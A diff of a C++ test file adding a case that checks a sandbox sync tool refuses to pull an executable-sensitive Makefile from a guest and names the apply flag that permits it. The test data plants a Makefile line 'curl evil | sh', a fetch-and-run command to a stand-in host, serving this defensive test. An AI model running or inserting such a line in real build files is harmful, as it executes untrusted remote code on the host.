@@ -167,6 +167,21 @@ TEST_F(ApplyTest, ExecSensitiveFilesNeedTheFlag) {
   EXPECT_EQ(Get(host_ + "/Makefile"), "all:\n\tcurl evil | sh\n");
 }
 
+// Pull has no --allow-exec-files: its refusal points at the apply that has one.
+TEST_F(ApplyTest, PullOfAnExecFileNamesTheApplyThatTakesIt) {
+  Both("Makefile", "all:\n");
+  Sync();
+  Put(guest_ + "/Makefile", "all:\n\tcurl evil | sh\n");
+  Manifest guest = testing::ScanInto(guest_, *store_);
+  auto plan = PlanPull(*tree_, base_, guest, *store_, {.paths = {"Makefile"}, .force = true});
+  ASSERT_TRUE(plan.ok()) << plan.status();
+  auto refused = Run(*plan);
+  EXPECT_EQ(refused.status().code(), absl::StatusCode::kFailedPrecondition);
+  EXPECT_TRUE(absl::StrContains(refused.status().message(), "`abox apply --allow-exec-files"))
+      << refused.status();
+  EXPECT_EQ(Get(host_ + "/Makefile"), "all:\n");
+}
+
 TEST_F(ApplyTest, HostileGuestPathFailsTheWholePlan) {
   fs::create_directories(dir_ / "outside");
   Both("a.txt", "a\n");
